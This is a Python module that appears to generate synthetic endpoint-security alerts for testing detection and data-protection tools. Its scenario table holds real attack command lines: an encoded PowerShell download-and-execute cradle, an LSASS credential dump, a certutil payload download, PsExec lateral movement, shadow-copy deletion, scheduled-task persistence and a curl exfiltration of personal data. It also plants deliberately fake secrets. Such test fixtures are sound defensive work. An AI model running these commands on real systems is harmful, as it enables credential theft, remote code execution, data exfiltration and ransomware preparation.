"""Endpoint detections the samples are drawn from, and one drawn situation.

Some command lines carry planted secrets and personal data on purpose (a
password, the AWS documentation's example key pair, a bearer token, an e-mail
address and a test card number) so data-protection features have something
realistic to find.
"""

from __future__ import annotations

from dataclasses import dataclass

from affidavit.samples._alerts_world import (
    AWS_EXAMPLE_KEY_ID,
    AWS_EXAMPLE_SECRET,
    ORG_DOMAIN,
    World,
    encoded_powershell,
)

__all__ = ["ENDPOINT_SCENARIOS", "EndpointScenario", "Situation", "draw_situation"]

_CMD = r"C:\Windows\System32\cmd.exe"
_POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"


@dataclass(frozen=True, slots=True)
class EndpointScenario:
    title: str
    description: str
    category: str  # Defender's category names
    tactic: str
    tactic_id: str
    technique: str
    technique_name: str
    image: str
    command: str  # may use {ext_ip}, {domain}, {server}, {user}, {ps}
    parent: str
    severity: str  # informational .. critical


ENDPOINT_SCENARIOS = (
    EndpointScenario(
        "Suspicious PowerShell command line",
        "PowerShell ran a hidden, encoded command that downloads and runs a script.",
        "Execution",
        "Execution",
        "TA0002",
        "T1059.001",
        "PowerShell",
        _POWERSHELL,
        "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {ps}",
        _CMD,
        "high",
    ),
    EndpointScenario(
        "LSASS memory dumped with comsvcs.dll",
        "rundll32 called MiniDump in comsvcs.dll on the LSASS process: credential theft.",
        "CredentialAccess",
        "Credential Access",
        "TA0006",
        "T1003.001",
        "LSASS Memory",
        r"C:\Windows\System32\rundll32.exe",
        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 756 "
        r"C:\Windows\Temp\lsass.dmp full",
        _POWERSHELL,
        "critical",
    ),
    EndpointScenario(
        "Local account created from the command line",
        "A new local account was added with its password typed on the command line.",
        "Persistence",
        "Persistence",
        "TA0003",
        "T1136.001",
        "Local Account",
        r"C:\Windows\System32\net.exe",
        "net user backup P@ssw0rd! /add",
        _CMD,
        "medium",
    ),
    EndpointScenario(
        "Cloud credentials exposed on a command line",
        "AWS access keys were passed in clear text to the AWS CLI.",
        "CredentialAccess",
        "Credential Access",
        "TA0006",
        "T1552.001",
        "Credentials In Files",
        r"C:\Program Files\Amazon\AWSCLIV2\aws.exe",
        f"aws configure set aws_access_key_id {AWS_EXAMPLE_KEY_ID} && "
        f"aws configure set aws_secret_access_key {AWS_EXAMPLE_SECRET}",
        _CMD,
        "high",
    ),
    EndpointScenario(
        "File downloaded with certutil",
        "certutil fetched an executable from an outside address into a public folder.",
        "CommandAndControl",
        "Command and Control",
        "TA0011",
        "T1105",
        "Ingress Tool Transfer",
        r"C:\Windows\System32\certutil.exe",
        r"certutil.exe -urlcache -split -f http://{ext_ip}/update.exe C:\Users\Public\update.exe",
        _CMD,
        "medium",
    ),
    EndpointScenario(
        "Remote execution with PsExec and an inline password",
        "PsExec opened a shell on a server with an administrator password on the command line.",
        "LateralMovement",
        "Lateral Movement",
        "TA0008",
        "T1021.002",
        "SMB/Windows Admin Shares",
        r"C:\Tools\PsExec64.exe",
        r"PsExec64.exe \\{server} -u CORP\adm-{user} -p Winter2025! cmd.exe",
        _CMD,
        "high",
    ),
    EndpointScenario(
        "Volume shadow copies deleted",
        "All volume shadow copies were deleted, as ransomware does before encrypting.",
        "Impact",
        "Impact",
        "TA0040",
        "T1490",
        "Inhibit System Recovery",
        r"C:\Windows\System32\vssadmin.exe",
        "vssadmin.exe delete shadows /all /quiet",
        _CMD,
        "critical",
    ),
    EndpointScenario(
        "Scheduled task created for persistence",
        "A scheduled task now starts an unsigned binary from ProgramData at every logon.",
        "Persistence",
        "Persistence",
        "TA0003",
        "T1053.005",
        "Scheduled Task",
        r"C:\Windows\System32\schtasks.exe",
        r"schtasks /create /tn OneDriveSync /tr C:\ProgramData\sync\odsync.exe /sc onlogon",
        _POWERSHELL,
        "medium",
    ),
    EndpointScenario(
        "Customer record posted to an outside site",
        "curl posted personal data to an outside address using an API bearer token.",
        "Exfiltration",
        "Exfiltration",
        "TA0010",
        "T1048",
        "Exfiltration Over Alternative Protocol",
        r"C:\Windows\System32\curl.exe",
        'curl.exe -X POST https://{domain}/upload -H "Authorization: Bearer '
        'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJzYW1wbGUifQ.c2FtcGxlLXNpZ25hdHVyZQ" '
        '-d "name=Jane Roe&email=jane.roe@corp.example&card=4111 1111 1111 1111"',
        _CMD,
        "high",
    ),
    EndpointScenario(
        "Domain controller discovery from an Office process",
        "nltest listed the domain controllers, started by Word.",
        "Discovery",
        "Discovery",
        "TA0007",
        "T1018",
        "Remote System Discovery",
        r"C:\Windows\System32\nltest.exe",
        f"nltest.exe /dclist:{ORG_DOMAIN}",
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        "low",
    ),
)


@dataclass(frozen=True, slots=True)
class Situation:
    """One drawn endpoint detection: who, where, what ran, with which hashes."""

    scenario: EndpointScenario
    host: str
    user: str
    internal_ip: str
    ext_ip: str | None
    domain: str | None
    command: str
    sha256: str
    sha1: str
    md5: str
    pid: int
    parent_pid: int

    @property
    def image_name(self) -> str:
        return self.scenario.image.rsplit("\\", 1)[-1]

    @property
    def parent_name(self) -> str:
        return self.scenario.parent.rsplit("\\", 1)[-1]


def draw_situation(world: World) -> Situation:
    scenario = world.rng.choice(ENDPOINT_SCENARIOS)
    user, server = world.user(), world.server()
    ext_ip = world.external_ip() if "{ext_ip}" in scenario.command else None
    domain = world.bad_domain() if "{domain}" in scenario.command else None
    script_host = world.external_ip()
    if "{ps}" in scenario.command:
        ext_ip = script_host
    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{script_host}/a.ps1')"
    command = scenario.command.format(
        ext_ip=ext_ip, domain=domain, server=server, user=user, ps=encoded_powershell(script)
    )
    return Situation(
        scenario=scenario,
        host=world.host(),
        user=user,
        internal_ip=world.internal_ip(),
        ext_ip=ext_ip,
        domain=domain,
        command=command,
        sha256=world.hex(64),
        sha1=world.hex(40),
        md5=world.hex(32),
        pid=world.rng.randrange(1000, 20000),
        parent_pid=world.rng.randrange(400, 1000),
    )
